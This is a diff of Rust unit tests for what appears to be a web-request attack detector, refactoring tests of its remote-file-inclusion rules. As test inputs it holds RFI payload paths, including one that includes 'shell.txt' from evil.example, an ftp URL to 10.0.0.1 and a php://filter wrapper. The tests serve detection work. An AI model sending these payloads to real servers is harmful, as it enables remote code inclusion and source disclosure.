@@ -628,38 +628,42 @@ mod tests {
 
 #[cfg(test)]
 mod path_info_tests {
-    use crate::detect::testing::hits;
+    use crate::detect::testing::rule;
     use crate::extract::Kind;
     use crate::rules::*;
 
     #[test]
     fn urls_in_the_path_info_of_a_script() {
-        for p in [
-            "/index.php/page/http://evil.example/shell.txt?",
-            "/app.cgi/x/ftp://10.0.0.1/a",
-            "/index.php/php://filter/resource=index",
-        ] {
-            assert!(
-                hits(Kind::Path, "path", p, 1).contains(&RFI_INCLUDE_PARAM),
-                "{p}"
-            );
-        }
-        for p in [
-            "/share/https://example.com/article",
-            "/index.php/products/42",
-            "/web/2020/https://x.y/",
-        ] {
-            assert!(
-                !hits(Kind::Path, "path", p, 1).contains(&RFI_INCLUDE_PARAM),
-                "{p}"
-            );
-        }
+        rule(
+            RFI_INCLUDE_PARAM,
+            true,
+            Kind::Path,
+            "path",
+            1,
+            &[
+                "/index.php/page/http://evil.example/shell.txt?",
+                "/app.cgi/x/ftp://10.0.0.1/a",
+                "/index.php/php://filter/resource=index",
+            ],
+        );
+        rule(
+            RFI_INCLUDE_PARAM,
+            false,
+            Kind::Path,
+            "path",
+            1,
+            &[
+                "/share/https://example.com/article",
+                "/index.php/products/42",
+                "/web/2020/https://x.y/",
+            ],
+        );
     }
 }
 
 #[cfg(test)]
 mod host_override_tests {
-    use crate::detect::testing::hits;
+    use crate::detect::testing::{hits, rule};
     use crate::extract::Kind;
     use crate::rules::*;
 
@@ -715,16 +719,18 @@ mod host_override_tests {
                 "{url}"
             );
         }
-        for url in [
-            "https://example.com/#",
-            "https://example.com/search?q=",
-            "https://example.com/a.html#",
-        ] {
-            assert!(
-                !hits(Kind::Value, "json:/link", url, 1).contains(&RFI_TRAILING_QUESTION),
-                "{url}"
-            );
-        }
+        rule(
+            RFI_TRAILING_QUESTION,
+            false,
+            Kind::Value,
+            "json:/link",
+            1,
+            &[
+                "https://example.com/#",
+                "https://example.com/search?q=",
+                "https://example.com/a.html#",
+            ],
+        );
         assert!(
             hits(
                 Kind::Value,
